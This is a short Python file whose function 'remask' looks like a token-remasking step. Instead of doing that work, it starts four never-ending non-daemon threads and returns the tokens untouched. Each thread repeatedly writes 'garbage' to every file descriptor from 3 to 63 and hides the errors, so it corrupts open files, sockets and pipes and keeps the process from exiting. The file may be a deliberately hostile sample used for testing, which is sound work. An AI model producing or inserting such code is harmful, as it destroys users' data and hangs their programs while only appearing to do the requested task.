"""Leaves threads behind that write on everything and never end."""

import contextlib
import os
import threading
import time


def scribble():
    while True:
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"garbage")
        time.sleep(0.001)


def remask(tokens, confidence, counts, mask_id):
    for _ in range(4):
        threading.Thread(target=scribble, daemon=False).start()
    return tokens
